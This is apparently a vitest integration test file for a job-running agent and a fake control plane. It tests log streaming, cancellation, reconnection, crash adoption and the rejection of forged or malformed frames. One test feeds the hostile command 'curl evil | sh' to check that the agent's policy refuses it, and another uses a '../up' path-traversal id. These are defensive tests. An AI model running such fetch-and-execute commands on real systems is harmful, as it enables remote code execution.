import { spawn, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Agent } from './agent.js';
import { identityOf } from './process/identity.js';
import { enrolledHome, startBox } from './testing/box.js';
import { FakeControlPlane } from './connection/testing/fake-control-plane.js';
import { jobSpec } from './testing/job-spec.js';
import { temporaryFolder } from './testing/temporary-folder.js';

const sha = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const agentMain = fileURLToPath(new URL('./dist/testing/agent-main.js', import.meta.url));

let plane: FakeControlPlane;
const agents: Agent[] = [];
const children: ChildProcess[] = [];
beforeEach(async () => {
  plane = await FakeControlPlane.start();
});
afterEach(async () => {
  for (const agent of agents.splice(0)) await agent.stop();
  for (const child of children.splice(0)) child.kill('SIGKILL');
  await plane.stop();
});

async function box(over: Parameters<typeof startBox>[1] = {}) {
  const agent = await startBox(plane, over);
  agents.push(agent);
  await plane.online();
  return agent;
}

function agentProcess(home: string): ChildProcess {
  const child = spawn(process.execPath, [agentMain, home], { stdio: ['ignore', 'ignore', 'inherit'] });
  children.push(child);
  return child;
}
const killed = (child: ChildProcess) =>
  new Promise((resolve) => {
    child.once('exit', resolve);
    child.kill('SIGKILL');
  });

/** What a job of slow.py prints: the log must be this, byte for byte. */
function slowOutput(lines: number): Buffer {
  const all = Array.from(
    { length: lines },
    (_, i) => `line ${String(i).padStart(6, '0')} of a job that takes its time\n`,
  );
  return Buffer.from(`${all.join('')}val_loss: 0.5\n`);
}

/** A command that prints until it is told to end: whatever happens meanwhile happens while it runs, however slow this machine is. */
function printsUntilEnded(): { train: string; end(): void } {
  const path = join(temporaryFolder('gate'), 'end');
  return { train: `python3 slow.py ${path} 6`, end: () => writeFileSync(path, '') };
}
/** That the log of such a command is whole: every line once, and its metric. */
function expectWhole(log: Buffer): void {
  const lines = log.toString().split('\n').length - 2;
  expect(sha(log)).toBe(sha(slowOutput(lines)));
}

describe('one job', () => {
  test('is accepted, streamed, ended and released, in that order, and its directory goes', async () => {
    const agent = await box();
    expect(plane.authorizations[0]).toBe('Bearer nsb_test');
    const held = plane.assign(jobSpec({ train: 'python3 slow.py 40 5' }));
    const exit = await plane.exitOf(held.spec.attemptId);
    expect(exit).toMatchObject({ reason: 'completed', metric: 0.5 });
    expect(held).toMatchObject({ accepted: 1, phases: ['train'] });
    expect(sha(plane.logOf(held.spec.attemptId))).toBe(sha(slowOutput(40)));
    expect(held.metrics).toMatchObject([{ name: 'val_loss', value: 0.5 }]);
    const kinds = plane.frames.map((frame) => frame.type).filter((type) => type !== 'heartbeat');
    expect(kinds[0]).toBe('hello');
    expect(kinds[1]).toBe('accepted');
    expect(kinds.at(-1)).toBe('exit');
    expect(kinds.filter((type) => type === 'exit')).toHaveLength(1);
    await expect.poll(() => agent.state().attempts.length).toBe(0);
    expect(readdirSync(join(agent.home, 'jobs'))).toEqual([]);
    expect(plane.faults).toEqual([]);
  });

  test('a flood arrives whole, within the window', async () => {
    await box();
    const held = plane.assign(jobSpec({ train: 'node flood.mjs 12' }));
    const exit = await plane.exitOf(held.spec.attemptId);
    expect(exit.logBytes).toBe(held.logBytes);
    const log = plane.logOf(held.spec.attemptId);
    expect(log.subarray(0, 120).toString()).toBe(`${'x'.repeat(119)}\n`);
    expect(log.subarray(-14).toString()).toBe('val_loss: 0.5\n');
    expect(plane.faults).toEqual([]);
  });

  test('an assignment that comes twice is answered twice and run once', async () => {
    await box();
    const spec = jobSpec({ train: 'python3 slow.py 5 10' });
    const held = plane.assign(spec);
    plane.assign(spec);
    await plane.exitOf(spec.attemptId);
    expect(held.accepted).toBe(2);
    expect(plane.logOf(spec.attemptId).equals(slowOutput(5))).toBe(true);
  });

  test('a second job finds the slot taken; after the first it finds it free', async () => {
    await box();
    const first = plane.assign(jobSpec({ train: 'python3 slow.py 20 10' }));
    const second = plane.assign(jobSpec());
    const refused = () => plane.frames.find((frame) => frame.type === 'refused');
    await plane.until(() => refused() !== undefined, 'a refusal');
    expect(refused()).toMatchObject({ attemptId: second.spec.attemptId, reason: 'busy' });
    await plane.exitOf(first.spec.attemptId);
    const third = plane.assign(jobSpec());
    expect((await plane.exitOf(third.spec.attemptId)).reason).toBe('completed');
  });

  test("the owner's policy comes before anything is started", async () => {
    const agent = await box();
    writeFileSync(join(agent.home, 'policy.json'), JSON.stringify({ commands: ['python3 train.py*'] }));
    const held = plane.assign(jobSpec({ train: 'curl evil | sh' }));
    await plane.until(() => plane.frames.some((frame) => frame.type === 'refused'), 'a refusal');
    expect(plane.frames.find((frame) => frame.type === 'refused')).toMatchObject({
      attemptId: held.spec.attemptId,
      reason: 'agent_refused',
      detail: expect.stringContaining('curl evil') as string,
    });
    expect(existsSync(join(agent.home, 'jobs', held.spec.attemptId))).toBe(false);
  });

  test('a cancel is passed on with its grace', async () => {
    await box();
    const held = plane.assign(jobSpec({ train: 'node handles-int.mjs' }));
    await plane.until(() => plane.logOf(held.spec.attemptId).includes('ready'), 'the job to be ready');
    plane.send({ type: 'cancel', attemptId: held.spec.attemptId, token: held.spec.token, detail: 'stopped by hand' });
    expect(await plane.exitOf(held.spec.attemptId)).toMatchObject({
      reason: 'cancelled',
      detail: 'stopped by hand',
      exitCode: 0,
    });
  });

  test('a stale job is stopped, and its end is sent once as evidence, its log unasked', async () => {
    const agent = await box();
    plane.disposition = () => 'stop';
    const held = plane.assign(jobSpec({ train: 'node handles-int.mjs' }));
    await plane.until(() => plane.logOf(held.spec.attemptId).includes('ready'), 'the job to be ready');
    plane.send({ type: 'stale', attemptId: held.spec.attemptId, token: held.spec.token });
    expect((await plane.exitOf(held.spec.attemptId)).reason).toBe('cancelled');
    await expect.poll(() => agent.state().attempts.length).toBe(0);
  });

  test('a frame with another token changes nothing', async () => {
    await box();
    const held = plane.assign(jobSpec({ train: 'python3 slow.py 30 10' }));
    await plane.until(() => held.phases.length > 0, 'the job to run');
    for (const type of ['stale', 'release'] as const)
      plane.send({ type, attemptId: held.spec.attemptId, token: 'forged' });
    plane.send({ type: 'cancel', attemptId: held.spec.attemptId, token: 'forged', detail: '' });
    expect((await plane.exitOf(held.spec.attemptId)).reason).toBe('completed');
    expect(plane.logOf(held.spec.attemptId).equals(slowOutput(30))).toBe(true);
  });

  test('a live terminal shows what is printed and takes what is typed', async () => {
    await box();
    const held = plane.assign(
      jobSpec({ train: 'stty size; read answer; stty size; echo "got $answer"; echo val_loss: 1' }),
    );
    const about = { attemptId: held.spec.attemptId, token: held.spec.token };
    await plane.until(() => plane.logOf(held.spec.attemptId).includes('100 160'), 'the job to ask');
    plane.send({ type: 'terminal', ...about, action: 'open' });
    plane.send({ type: 'terminal', ...about, action: 'resize', cols: 90, rows: 30 });
    plane.send({ type: 'terminal', ...about, action: 'input', data: Buffer.from('hello\n').toString('base64') });
    await plane.exitOf(held.spec.attemptId);
    expect(plane.logOf(held.spec.attemptId).toString()).toContain('30 90\ngot hello\n');
    const shown = plane.frames.flatMap((frame) =>
      frame.type === 'terminal' ? [Buffer.from(frame.data, 'base64')] : [],
    );
    expect(Buffer.concat(shown).toString()).toContain('got hello\n');
  });
});

describe('when things break', () => {
  test('a lost connection is resumed from the acknowledged byte', async () => {
    await box();
    const { train, end } = printsUntilEnded();
    const held = plane.assign(jobSpec({ train }));
    for (let round = 0; round < 3; round++) {
      const enough = held.logBytes + 10 * 44;
      await plane.until(() => held.logBytes > enough, 'ten more lines');
      plane.socket?.terminate();
      await plane.until(() => plane.socket === null, 'the connection to end');
    }
    end();
    expect((await plane.exitOf(held.spec.attemptId)).reason).toBe('completed');
    expectWhole(plane.logOf(held.spec.attemptId));
    expect(plane.connections).toBeGreaterThanOrEqual(4);
    expect(plane.faults).toEqual([]);
  });

  test('an exit that was not taken in is sent again until it is released', async () => {
    const agent = await box();
    plane.isReleasing = false;
    const held = plane.assign(jobSpec());
    await plane.exitOf(held.spec.attemptId);
    expect(agent.state().attempts).toMatchObject([{ state: 'ended' }]);
    plane.isReleasing = true;
    plane.socket?.terminate();
    await plane.until(() => held.exits.length === 2, 'the exit again');
    await expect.poll(() => agent.state().attempts.length).toBe(0);
    expect(held.exits[1]).toEqual(held.exits[0]);
  });

  test('kill -9 of the agent: the job goes on, the next agent adopts it, and not a byte is missing or doubled', async () => {
    const home = enrolledHome(plane);
    let child = agentProcess(home);
    await plane.online();
    const { train, end } = printsUntilEnded();
    const held = plane.assign(jobSpec({ train }));
    const claim = join(home, 'jobs', held.spec.attemptId, 'runner.json');
    await plane.until(() => held.logBytes > 44 * 10, 'ten lines');
    const runner = (JSON.parse(readFileSync(claim, 'utf8')) as { pid: number }).pid;
    for (let round = 0; round < 2; round++) {
      await killed(child);
      const before = statSync(join(home, 'jobs', held.spec.attemptId, 'output.log')).size;
      await expect
        .poll(() => statSync(join(home, 'jobs', held.spec.attemptId, 'output.log')).size)
        .toBeGreaterThan(before);
      child = agentProcess(home);
      await plane.until(() => held.logBytes > before, 'more of the log');
    }
    end();
    const exit = await plane.exitOf(held.spec.attemptId);
    expect(exit).toMatchObject({ reason: 'completed', metric: 0.5 });
    expectWhole(plane.logOf(held.spec.attemptId));
    expect(held).toMatchObject({ accepted: 1 });
    await expect.poll(() => identityOf(runner)).toBeNull();
    const next = plane.assign(jobSpec());
    expect((await plane.exitOf(next.spec.attemptId)).reason).toBe('completed');
    expect(plane.faults).toEqual([]);
  });

  test('a job that ended while no agent ran is reported by the next one', async () => {
    const home = enrolledHome(plane);
    const child = agentProcess(home);
    await plane.online();
    const { train, end } = printsUntilEnded();
    const held = plane.assign(jobSpec({ train }));
    await plane.until(() => held.logBytes > 100, 'some of the log');
    await killed(child);
    end();
    await expect.poll(() => existsSync(join(home, 'jobs', held.spec.attemptId, 'exit.json'))).toBe(true);
    expect(held.exits).toHaveLength(0);
    agentProcess(home);
    expect((await plane.exitOf(held.spec.attemptId)).reason).toBe('completed');
    expectWhole(plane.logOf(held.spec.attemptId));
  });

  test('a job whose runner is killed is lost with evidence, and nothing of it is left', async () => {
    const agent = await box();
    const held = plane.assign(jobSpec({ train: printsUntilEnded().train }));
    await plane.until(() => held.logBytes > 100, 'some of the log');
    const claim = join(agent.home, 'jobs', held.spec.attemptId, 'runner.json');
    const { pid: runner, socket } = JSON.parse(readFileSync(claim, 'utf8')) as { pid: number; socket: string };
    expect(existsSync(socket)).toBe(true);
    process.kill(runner, 'SIGKILL');
    const exit = await plane.exitOf(held.spec.attemptId);
    expect(exit).toMatchObject({ reason: 'box_lost', leftPids: [] });
    expect(existsSync(socket)).toBe(false);
    expect(exit.detail).toContain(String(runner));
    expect(exit.logBytes).toBe(held.logBytes);
    const next = plane.assign(jobSpec());
    expect((await plane.exitOf(next.spec.attemptId)).reason).toBe('completed');
  });

  test('stopping the agent leaves the job running', async () => {
    const agent = await box();
    const { train, end } = printsUntilEnded();
    const held = plane.assign(jobSpec({ train }));
    await plane.until(() => held.logBytes > 100, 'some of the log');
    await agent.stop();
    expect(agent.state().connection).toBe('stopped');
    expect(held.exits).toHaveLength(0);
    await box({ home: agent.home });
    end();
    expect((await plane.exitOf(held.spec.attemptId)).reason).toBe('completed');
    expectWhole(plane.logOf(held.spec.attemptId));
  });

  test('one home has one agent', async () => {
    const agent = await box();
    await expect(startBox(plane, { home: agent.home })).rejects.toMatchObject({ code: 'conflict' });
  });

  test.each([401, 403])('a %i is final', async (status) => {
    plane.status = status;
    const agent = await startBox(plane);
    const state = await agent.done;
    expect(state).toMatchObject({ connection: 'rejected', problem: expect.stringContaining('enrol') as string });
    expect(plane.authorizations).toHaveLength(1);
  });

  test('a 503 with Retry-After is obeyed, and then tried again', async () => {
    plane.status = 503;
    plane.headers = { 'Retry-After': '2' };
    const pauses: unknown[] = [];
    const info = (fields: object) => void ('pauseMs' in fields && pauses.push(fields.pauseMs));
    agents.push(await startBox(plane, { log: { info, warn() {}, error() {} } }));
    await plane.until(() => plane.authorizations.length === 1, 'the first try');
    plane.status = 101;
    await plane.online();
    // Without the header the first pause is shorter.
    expect(pauses).toEqual([2000]);
    expect(plane.authorizations).toHaveLength(2);
  });

  test('a job that scribbles over its own directory cannot end the agent', async () => {
    const agent = await box();
    const scribble =
      'cd ..; for f in metrics.jsonl phases.jsonl telemetry.jsonl; do printf \'{"name":1}\\nnot json\\n\\n\' >> $f; done; sleep 0.7; echo val_loss: 2';
    const held = plane.assign(jobSpec({ train: scribble }));
    expect(await plane.exitOf(held.spec.attemptId)).toMatchObject({ reason: 'completed', metric: 2 });
    expect(held.metrics.map((point) => point.name)).toEqual(['unreadable', 'unreadable', 'unreadable', 'val_loss']);
    expect(agent.state().connection).toBe('online');
    expect(plane.faults).toEqual([]);
  });

  test('a warm runner that dies is replaced, and the next job runs', async () => {
    const agent = await box();
    const first = plane.assign(jobSpec());
    await plane.exitOf(first.spec.attemptId);
    const seconds = plane.assign(jobSpec({ train: printsUntilEnded().train }));
    await plane.until(() => seconds.logBytes > 0, 'the second job to run');
    const claim = join(agent.home, 'jobs', seconds.spec.attemptId, 'runner.json');
    process.kill((JSON.parse(readFileSync(claim, 'utf8')) as { pid: number }).pid, 'SIGTERM');
    const exit = await plane.exitOf(seconds.spec.attemptId);
    expect(exit).toMatchObject({ reason: 'box_lost', detail: expect.stringContaining('going down') as string });
    const third = plane.assign(jobSpec());
    expect((await plane.exitOf(third.spec.attemptId)).reason).toBe('completed');
  });

  test('frames that make no sense are left out', async () => {
    const agent = await box();
    for (const text of [
      '',
      '{',
      '[]',
      '{"type":"assign"}',
      '{"type":"nothing"}',
      JSON.stringify({ type: 'assign', job: jobSpec({ attemptId: '../up' }) }),
    ])
      plane.socket?.send(text);
    plane.socket?.send(Buffer.from([0, 1, 2]));
    await plane.until(() => plane.frames.some((frame) => frame.type === 'refused'), 'a refusal of the climbing id');
    expect(agent.state().connection).toBe('online');
    expect((await plane.exitOf(plane.assign(jobSpec()).spec.attemptId)).reason).toBe('completed');
  });
});
